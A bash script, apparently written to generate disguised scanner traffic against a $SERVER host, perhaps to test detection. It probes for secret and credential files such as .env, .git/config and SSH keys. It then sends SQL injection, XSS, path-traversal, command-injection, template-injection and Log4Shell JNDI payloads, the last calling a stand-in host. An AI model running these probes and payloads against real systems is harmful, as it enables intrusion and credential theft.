# A scanner that hides its name: a browser User-Agent, but the behaviour of a scanner — probes
# for files that are not there and attack payloads of several classes against one parameter.
set -u
ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0"
c() { curl -s -o /dev/null --path-as-is -A "$ua" "$@"; }
for p in .git/config .env .DS_Store backup.sql db.sql dump.tar.gz config.yml config.json \
         settings.py wp-config.php.bak web.config.old id_rsa .ssh/id_rsa server.key \
         phpinfo.php info.php test.php admin/config.php install.php setup.php \
         api/v1/debug api/swagger.json actuator/env actuator/heapdump console jmx-console \
         manager/status solr/admin jenkins/script .svn/wc.db .hg/store CHANGELOG.txt \
         composer.lock package-lock.json yarn.lock; do
  c "http://$SERVER/$p"
done
for q in "' OR 1=1-- -" "1 UNION SELECT username,password FROM users-- -" \
         "<script>alert(document.domain)</script>" "\"><img src=x onerror=alert(1)>" \
         "../../../../etc/passwd" "....//....//....//etc/passwd" \
         ";cat /etc/passwd" "\$(id)" "{{7*7}}" "\${jndi:ldap://198.51.100.9/a}"; do
  c -G --data-urlencode "q=$q" "http://$SERVER/search"
done
